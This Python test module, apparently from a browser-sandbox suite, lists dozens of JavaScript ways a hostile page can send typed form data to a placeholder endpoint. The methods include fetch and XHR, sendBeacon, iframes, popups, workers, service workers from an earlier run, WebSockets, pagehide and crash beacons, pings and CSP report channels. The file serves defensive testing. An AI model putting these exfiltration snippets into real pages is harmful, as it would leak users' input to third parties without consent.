"""Ways that send by a write."""

from __future__ import annotations

from tests.hostile.way import FORM, FRAME_POSTS, FRAME_SENDS, REGISTER, Way, frame, js, worker

_OLD_WORKER = (
    "addEventListener('message', e => e.waitUntil(fetch('$HIT', {method: 'POST', body: e.data})));"
)
_OLD_SOCKET = (
    "addEventListener('message', e => { const s = new WebSocket('$WS$HIT'); "
    "s.onopen = () => s.send(e.data); });"
)
_TELL_OLD = (
    "go = async () => { const r = await navigator.serviceWorker.getRegistration(); "
    "(r.active || r.waiting).postMessage(v()); };"
)

WRITES = (
    Way("click on submit", trigger="click"),
    Way("Enter in a field", trigger="enter"),
    Way(
        "Enter after the page moved the focus to its button",
        "typed(() => setTimeout(() => document.getElementById('send').focus()))",
        trigger="enter",
    ),
    Way(
        "page presses its own button when the field is full",
        "typed(() => document.getElementById('send').click())",
        trigger="type",
    ),
    Way(
        "page swaps the form for another and submits it",
        "typed(() => setTimeout(() => { const g = form.cloneNode(true); form.replaceWith(g); "
        "g.submit(); }))",
        trigger="type",
    ),
    Way(
        "dialog over everything that sends",
        "go = () => { const d = add('dialog'); d.innerHTML = `<form id=g action=$HIT method=post>"
        "<input name=a><button>OK</button></form>`; d.showModal(); g.a.value = v(); "
        "g.querySelector('button').click(); };",
    ),
    Way("keeps sending on every key", "typed(() => post())", trigger="type"),
    js("flood of 500 requests", "for (let i = 0; i < 500; i++) post(hit('?' + i + q()));"),
    js("fetch POST", "post()"),
    js("fetch keepalive", "fetch(hit(), {method: 'POST', body: v(), keepalive: true})"),
    js(
        "fetch with a body that streams",
        """
        fetch(hit(), {method: 'POST', duplex: 'half', body: new ReadableStream({start(c) {
        c.enqueue(new TextEncoder().encode(v())); c.close(); }})})""",
    ),
    *(
        js(f"fetch {m}", f"fetch(hit(), {{method: '{m}', body: v()}})")
        for m in ("PUT", "PATCH", "DELETE", "EXFIL")
    ),
    *(
        js(f"fetch {m} with data", f"fetch(hit('?' + q()), {{method: '{m}'}})")
        for m in ("HEAD", "OPTIONS")
    ),
    js("XHR POST", "const x = new XMLHttpRequest(); x.open('POST', hit()); x.send(v());"),
    js(
        "synchronous XHR",
        "const x = new XMLHttpRequest(); x.open('POST', hit(), false); x.send(v());",
    ),
    js("sendBeacon", "navigator.sendBeacon(hit(), v())"),
    js("form.requestSubmit()", "form.requestSubmit()"),
    js("form.submit()", "form.submit()"),
    js(
        "javascript: address",
        "location = `javascript:void fetch('$HIT', {method: 'POST', body: v()})`",
    ),
    Way(
        "form in an iframe of the same origin, click",
        "let w; setup = async () => { w = add('iframe', {src: '$FRAME'}); await loaded(w); }; "
        "go = () => { const g = w.contentDocument.forms[0]; g.a.value = v(); "
        "g.querySelector('button').click(); };",
        frame=FORM,
    ),
    frame("form in an iframe of another origin", "{src: '$OTHER$FRAME'}", FRAME_SENDS),
    frame("iframe srcdoc", "{srcdoc: `" + FRAME_SENDS.replace("</script>", "<\\/script>") + "`}"),
    frame(
        "iframe data:",
        "{src: `data:text/html," + FRAME_POSTS.replace("</script>", "<\\/script>") + "`}",
    ),
    frame(
        "iframe blob:",
        "{src: URL.createObjectURL(new Blob([`"
        + FRAME_POSTS.replace("</script>", "<\\/script>")
        + "`], {type: 'text/html'}))}",
    ),
    js(
        "fetch borrowed from a blank frame",
        "add('iframe').contentWindow.fetch('$SELF$HIT', {method: 'POST', body: v()})",
    ),
    js("form into a frame", "add('iframe', {name: 'w'}); form.target = 'w'; form.submit();"),
    js("form with target=_blank", "form.target = '_blank'; form.submit();"),
    Way(
        "popup that sends on load",
        "go = () => open('$FRAME?' + q())",
        frame="<script>fetch('$HIT', {method: 'POST', body: location.search})</script>",
    ),
    js(
        "popup about:blank, filled by its opener",
        """
        const w = open('about:blank'); w.document.body.innerHTML = form.outerHTML;
        w.document.forms[0].action = '$SELF$HIT'; w.document.querySelector('input').value = v();
        w.document.forms[0].submit();""",
    ),
    js("popup javascript:", "open(`javascript:opener.fetch('$SELF$HIT', {method: 'POST'})`)"),
    js("new tab with noopener", "open(hit('?' + q()), '_blank', 'noopener')"),
    Way(
        "service worker of an earlier run",
        f"setup = async () => {{ {REGISTER}; await pause(100); }}; {_TELL_OLD}",
        worker=_OLD_WORKER,
        earlier=True,
    ),
    Way(
        "WebSocket in a service worker of an earlier run",
        f"setup = async () => {{ {REGISTER}; await pause(100); }}; {_TELL_OLD}",
        worker=_OLD_SOCKET,
        earlier=True,
    ),
    worker(
        "dedicated worker", "new Worker('$SCRIPT')", "fetch('$HIT', {method: 'POST', body: data})"
    ),
    worker(
        "shared worker",
        "new SharedWorker('$SCRIPT')",
        "fetch('$HIT', {method: 'POST', body: data})",
    ),
    worker(
        "worker in a worker",
        "new Worker('$SCRIPT')",
        "const b = new Blob([`fetch('$SELF$HIT', {method: 'POST', body: '${data}'})`]); "
        "new Worker(URL.createObjectURL(b));",
    ),
    js(
        "worker blob:",
        """
        const b = new Blob([`fetch('$SELF$HIT', {method: 'POST', body: '${v()}'})`]);
        new Worker(URL.createObjectURL(b));""",
    ),
    Way(
        "beacon in pagehide", "onpagehide = () => navigator.sendBeacon(hit(), v())", trigger="leave"
    ),
    Way(
        "keepalive in pagehide",
        "onpagehide = () => fetch(hit(), {method: 'POST', body: v(), keepalive: true})",
        trigger="close",
    ),
    Way(
        "sends when the tab is hidden",
        "document.onvisibilitychange = onblur = () => navigator.sendBeacon(hit(), v())",
        trigger="leave",
    ),
    js("fetchLater", "fetchLater(hit(), {method: 'POST', body: v(), activateAfter: 0})"),
    Way(
        "fetchLater when the page closes",
        "typed(() => fetchLater(hit(), {method: 'POST', body: v()}))",
        trigger="close",
    ),
    Way(
        "beacon of a renderer that crashes",
        "typed(() => navigator.sendBeacon(hit(), v()))",
        trigger="crash",
    ),
    js(
        "a ping",
        "const a = add('a', {href: '#x', ping: hit('?' + q())}); a.textContent = 'x'; a.click();",
    ),
    Way(
        "CSP violation report",
        "go = () => add('img', {src: 'https://127.0.0.1:9/?' + q()})",
        headers={"content-security-policy": "img-src 'none'; report-uri $HIT"},
    ),
    Way(
        "Reporting API",
        "let w; setup = async () => { w = add('iframe', {src: '$FRAME'}); await loaded(w); }; "
        "go = () => { add('img', {src: 'https://127.0.0.1:9/?' + q()}); "
        "setTimeout(() => location = 'about:blank', 100); };",
        headers={
            "content-security-policy": "img-src 'none'; report-to d",
            "reporting-endpoints": 'd="$SELF$HIT"',
        },
    ),
)
